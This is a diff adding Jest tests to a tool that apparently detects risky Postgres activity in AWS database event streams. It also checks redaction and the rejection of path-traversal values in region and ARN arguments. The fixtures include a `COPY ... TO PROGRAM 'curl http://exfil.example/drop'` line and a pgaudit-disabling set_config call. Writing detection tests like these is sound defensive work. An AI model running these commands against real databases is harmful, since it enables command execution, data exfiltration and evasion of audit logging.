@@ -138,6 +138,20 @@ describe('das-read rules', () => {
   });
 });
 
+describe('detect -o asff names its place only by a real region', () => {
+  it("refuses a --region that is no region's name, and an ARN's, with exit 2 and no finding", async () => {
+    for (const args of [
+      ['--account-id', '123456789012', '--region', 'us-east-1:x/../'],
+      ['--cluster', 'arn:aws:rds:us-east-1x/..:123456789012:cluster:prod'],
+    ]) {
+      const { code, stdout, stderr } = await detect(['-o', 'asff', ...args, '-']);
+      expect(code, stderr).toBe(ExitCode.usage);
+      expect(stderr).toMatch(/region/);
+      expect(stdout).not.toContain('ProductArn');
+    }
+  });
+});
+
 describe('detect --redact', () => {
   const SECRET = 'hunter2-secret';
   const line = JSON.stringify({
@@ -155,6 +169,33 @@ describe('detect --redact', () => {
       expect(stdout).not.toContain(SECRET);
       expect(stdout).toContain('SELECT ?');
     });
+  }
+});
+
+describe('detect --redact with the built-in rules: the rules see the SQL as sent', () => {
+  // Each attack lives in a literal, which --redact takes out of what is shown, never out of what the rules see.
+  const attacks = [
+    { title: /[Pp]rogram/, text: `COPY t TO PROGRAM 'curl http://exfil.example/drop'`, literal: 'exfil.example' },
+    { title: /audit/i, text: `SELECT set_config('pgaudit.log', 'none', false)`, literal: 'pgaudit.log' },
+  ];
+  for (const attack of attacks) {
+    const line = JSON.stringify({
+      ...postgresEvent(1, { command: 'SELECT', commandText: attack.text, paramList: [] }),
+      clusterId: 'cluster-A',
+      instanceId: 'db-B',
+      eventId: 's:1:1',
+    });
+    for (const output of ['pretty', 'ocsf', 'asff']) {
+      it(`finds ${JSON.stringify(attack.text)} and shows none of its literals, -o ${output}`, async () => {
+        const place = output === 'asff' ? ['--account-id', '123456789012', '--region', 'eu-west-1'] : [];
+        const io = memoryIO({ input: `${line}\n` });
+        const code = await run(['detect', '--redact', '-o', output, ...place, '-'], io);
+        expect(code, io.stderr.text).toBe(ExitCode.ok);
+        expect(io.stdout.text).toMatch(attack.title);
+        expect(io.stdout.text).not.toContain(attack.literal);
+        expect(io.stdout.text).not.toContain('none');
+      });
+    }
   }
 });
 
